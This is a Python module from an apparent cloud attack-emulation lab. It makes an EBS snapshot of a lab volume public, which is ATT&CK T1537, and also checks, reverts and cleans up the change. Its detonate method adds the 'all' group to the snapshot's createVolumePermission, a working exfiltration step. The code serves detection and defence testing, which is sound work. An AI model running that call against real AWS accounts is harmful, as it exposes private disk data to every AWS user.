"""ebs-snapshot-made-public: an EBS snapshot shared with every AWS account (T1537)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.ebs_snapshot import ensure_volume_snapshot
from lab.attacks.resources import missing_ok
from lab.emulator.endpoints import Endpoints
from lab.engines.posture import public_volume_permission


class EbsSnapshotMadePublic(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        """A 1 GiB lab volume and a private snapshot of it (reused if an earlier run left them)."""
        return ensure_volume_snapshot(endpoints, self.id, f"Lab target of {self.id}", self.revert)

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("ec2", "attacker").modify_snapshot_attribute(
            SnapshotId=prerequisites["snapshot_id"],
            Attribute="createVolumePermission",
            OperationType="add",
            GroupNames=["all"],
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        permissions = endpoints.client("ec2", "observer").describe_snapshot_attribute(
            SnapshotId=prerequisites["snapshot_id"], Attribute="createVolumePermission"
        )["CreateVolumePermissions"]
        return not any(public_volume_permission(p) for p in permissions)

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        if not self.is_remediated(endpoints, prerequisites):
            endpoints.client("ec2", "harness").modify_snapshot_attribute(
                SnapshotId=prerequisites["snapshot_id"],
                Attribute="createVolumePermission",
                OperationType="remove",
                GroupNames=["all"],
            )

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        ec2 = endpoints.client("ec2", "harness")
        with missing_ok("InvalidSnapshot.NotFound"):
            ec2.delete_snapshot(SnapshotId=prerequisites["snapshot_id"])
        with missing_ok("InvalidVolume.NotFound"):
            ec2.delete_volume(VolumeId=prerequisites["volume_id"])


TECHNIQUE = EbsSnapshotMadePublic
